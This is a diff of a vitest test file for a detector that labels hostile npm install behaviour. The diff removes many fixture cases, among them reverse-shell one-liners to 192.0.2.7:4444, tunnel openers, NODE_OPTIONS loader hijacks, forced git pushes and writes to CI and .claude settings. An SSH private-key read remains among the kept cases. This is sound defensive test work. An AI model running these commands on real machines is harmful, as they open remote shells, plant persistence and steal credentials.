@@ -1,72 +1,8 @@
 import { expect, test } from "vitest";
 
-import type { TriggerDetonation, TriggerKind } from "../detonation.ts";
 import type { Observation } from "../observation.ts";
+import { places, tried, triggerWith, idsOf, file, download, addon, program, command } from "../../test/tried.ts";
 import { findBehaviours } from "./find-behaviours.ts";
-
-const places = {
-  home: "/home/ada",
-  temporaryFolder: "/tmp",
-  project: "/home/ada/code/app",
-  packageFolder: "/home/ada/code/app/node_modules/lib",
-};
-
-function tried(parts: Partial<Observation> & Pick<Observation, "kind" | "api">): Observation {
-  return { detail: parts.api, data: {}, decoded: false, honey: [], location: null, atMs: 0, ...parts };
-}
-
-function triggerWith(observations: readonly Observation[], kind: TriggerKind = "install"): TriggerDetonation {
-  return {
-    trigger: { kind, name: "postinstall", starts: ["node setup.js"] },
-    worlds: [
-      {
-        name: "linux-laptop",
-        platform: "linux",
-        places,
-        observations,
-        coverage: 1,
-        ended: "rest",
-        problem: undefined,
-      },
-    ],
-    differences: [],
-    coverage: 1,
-  };
-}
-
-function idsOf(observation: Observation, kind?: "install" | "import"): readonly string[] {
-  return findBehaviours([triggerWith([observation], kind)]).map(({ id }) => id);
-}
-
-const file = (api: string, path: string, to?: string, facts: object = {}): Observation =>
-  tried({ kind: "file", api: `fs.${api}`, data: { path, ...(to === undefined ? {} : { to }), ...facts } });
-const download = (facts: object): Observation =>
-  tried({
-    kind: "code",
-    api: "tool",
-    honey: ["download"],
-    data: { path: `${places.packageFolder}/bin/tool`, text: "\u007FELF", arguments: ["--version"], ...facts },
-  });
-const addon = (path: string): Observation =>
-  tried({ kind: "code", api: "process.dlopen", honey: ["download"], data: { path, text: "\u007FELF" } });
-const program = (api: string, path: string, more: object = {}): Observation =>
-  tried({ kind: "file", api, data: { path, ...more } });
-const command = (line: string, decoded = false): Observation =>
-  tried({ kind: "process", api: "child_process.exec", data: { command: line }, decoded });
-
-/** What arrived from the network, written to a program. */
-const fed = (name: string): Observation =>
-  tried({
-    kind: "process",
-    api: "child_process.stdin",
-    honey: ["download"],
-    data: { program: name, text: "id" },
-  });
-const plantedVariable = tried({
-  kind: "env",
-  api: "environment",
-  data: { name: "NODE_OPTIONS", value: "--require /tmp/a.js", program: "npm" },
-});
 
 test.each<[string, Observation]>([
   ["planted-secret-sent", tried({ kind: "network", api: "https.request", honey: ["npm-token"] })],
@@ -184,66 +120,6 @@ test.each<[string, Observation]>([
     "git-hook-installed",
     file("writeFile", "/home/ada/code/app/.git/hooks/pre-commit", undefined, { isStarter: true }),
   ],
-  ["shell-attached", command("bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'")],
-  ["shell-attached", command("nc 192.0.2.7 4444 -e /bin/sh")],
-  ["shell-attached", command("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f")],
-  ["shell-attached", command("socat exec:'bash -li',pty,stderr tcp:192.0.2.7:4444")],
-  [
-    "shell-attached",
-    command(
-      'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("192.0.2.7",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh"])\'',
-    ),
-  ],
-  [
-    "shell-attached",
-    command(
-      "powershell -c \"$c=New-Object System.Net.Sockets.TCPClient('192.0.2.7',4444);$s=$c.GetStream();iex $d\"",
-    ),
-  ],
-  [
-    "shell-attached",
-    tried({
-      kind: "process",
-      api: "child_process.spawn",
-      data: { program: "sh", arguments: ["-i"], stdio: "socket" },
-    }),
-  ],
-  ["shell-attached", fed("/bin/sh")],
-  ["download-executed", fed("python3")],
-  ["project-rewired", file("writeFile", `${places.project}/package.json`, undefined, { isRewired: true })],
-  ["project-rewired", program("npm pkg", `${places.project}/package.json`, { isRewired: true })],
-  ["project-rewired", file("appendFile", `${places.project}/pnpm-lock.yaml`)],
-  ["project-rewired", program("sed", `${places.project}/a`, { effect: "write-file", isRewired: true })],
-  ["loader-planted", plantedVariable],
-  ["repository-changed", command("git push origin HEAD --force")],
-  ["repository-changed", command('git -C /tmp -c "user.name=a b" commit -m x')],
-  ["repository-changed", command("git remote set-url origin https://git.invalid/a.git")],
-  [
-    "repository-changed",
-    command('git config --global url."https://git.invalid/".insteadOf "https://codehost.example/"'),
-  ],
-  ["repository-changed", command("gh repo create a --public --source . --push")],
-  ["repository-changed", command("gh api -X PUT /repos/a/b/contents/c -f message=a")],
-  ["repository-changed", command("gh secret set A --body b")],
-  ["tunnel-opened", command("npx -y cloudflared tunnel --url http://localhost:3000")],
-  ["tunnel-opened", command("ssh -o StrictHostKeyChecking=no -R 80:localhost:22 tunnel.invalid")],
-  ["tunnel-opened", command("ngrok tcp 22")],
-  ["tool-taken-over", file("appendFile", `${places.project}/Dockerfile`)],
-  ["tool-taken-over", file("appendFile", `${places.project}/.gitlab-ci.yml`)],
-  ["tool-taken-over", file("writeFile", `${places.project}/.pnpmfile.cjs`)],
-  ["tool-taken-over", file("appendFile", `${places.project}/.npmrc`)],
-  ["tool-taken-over", file("writeFile", `${places.project}/.devcontainer/devcontainer.json`)],
-  ["tool-taken-over", file("writeFile", "/home/ada/.claude/skills/a/SKILL.md")],
-  ["tool-taken-over", file("writeFile", "/home/ada/.claude.json")],
-  [
-    "tool-taken-over",
-    file("appendFile", `${places.project}/.env`, undefined, { content: "\nNODE_OPTIONS=--require ./a.js\n" }),
-  ],
-  ["tool-taken-over", command('setx NODE_OPTIONS "--require C:\\a.js"')],
-  ["tool-taken-over", command("launchctl setenv NODE_OPTIONS '--require /tmp/a.js'")],
-  ["tool-taken-over", command("reg add HKCU\\Environment /v Path /d C:\\a /f")],
-  ["stays-installed", file("appendFile", "/home/ada/.bash_aliases")],
-  ["stays-installed", file("writeFile", "/home/ada/.config/fish/conf.d/a.fish")],
   ["hidden-command", command("bash -c id", true)],
   ["credentials-read", file("readFile", "/home/ada/.ssh/id_ed25519")],
   [
@@ -324,26 +200,6 @@ test.each<[string, Observation]>([
       data: { method: "GET", url: "https://api.github.com/repos/a/b/releases/tags/v1" },
     }),
   ],
-  ["unpacking what was downloaded", fed("tar")],
-  ["settings in the project's manifest", file("writeFile", `${places.project}/package.json`)],
-  [
-    "a lockfile of its own",
-    file("writeFile", `${places.packageFolder}/package-lock.json`, undefined, { isMade: true }),
-  ],
-  ["what an unpacked source brings along", file("writeFile", "/home/ada/.cache/lib/src/Makefile")],
-  [
-    "variables of the project",
-    file("appendFile", `${places.project}/.env`, undefined, { content: "PORT=8080\n" }),
-  ],
-  ["asking git where it is", command("git rev-parse HEAD")],
-  ["fetching a part of its sources by git", command("git submodule update --init --recursive")],
-  ["asking git where it is from", command("git remote get-url origin")],
-  ["a clone", command("git clone --depth 1 https://codehost.example/a/b.git vendor")],
-  ["the version of a tunnel", command("cloudflared --version")],
-  ["who is asked for a release", command("gh api repos/a/b/releases/latest")],
-  ["keys of a remote machine", command("ssh -i key build.example make")],
-  ["a port that is looked at", command("nc -z localhost 5432")],
-  ["a script with a socket of its own", command("python3 build.py --socket")],
   ["starting a compiler", command("node-gyp rebuild")],
   ["a shell whose command stands in the package", command("sh -c 'echo built'")],
   ["downloading to a file", command("curl -o a.tgz https://files.example/a.tgz")],
@@ -410,29 +266,6 @@ test("findBehaviours counts what is called as context alone", () => {
   expect(findBehaviours([triggerWith([sent], "call"), triggerWith([sent])])).toMatchObject([
     { id: "planted-secret-sent", strength: "decisive" },
   ]);
-});
-
-test.each([
-  ["download-tried", "https://codehost.example/a/b/releases/download/v1/tool"],
-  ["download-tried", "https://files.example/tool"],
-  ["download-tried", "http://127.0.0.1:4873/tool"],
-  ["download-executed", "http://198.51.100.7/tool"],
-  ["download-executed", "https://cdn.discordapp.com/attachments/1/2/tool"],
-  ["download-executed", "https://abc.trycloudflare.com/tool"],
-])("findBehaviours takes a program that is tried for %s where it asked %s", (id, url) => {
-  const asked = tried({ kind: "network", api: "https.request", data: { url, method: "GET" } });
-
-  expect(findBehaviours([triggerWith([asked, download({})])]).map((finding) => finding.id)).toEqual([id]);
-});
-
-test("findBehaviours takes a program under a hidden name for none that is tried", () => {
-  const hidden = download({ path: `${places.packageFolder}/bin/.tool` });
-
-  expect(idsOf(hidden)).toEqual(["download-executed"]);
-});
-
-test("findBehaviours takes variables for other programs for what tools do, unless an install plants them", () => {
-  expect(idsOf(plantedVariable, "import")).toEqual([]);
 });
 
 test.each<[string, Observation, string]>([
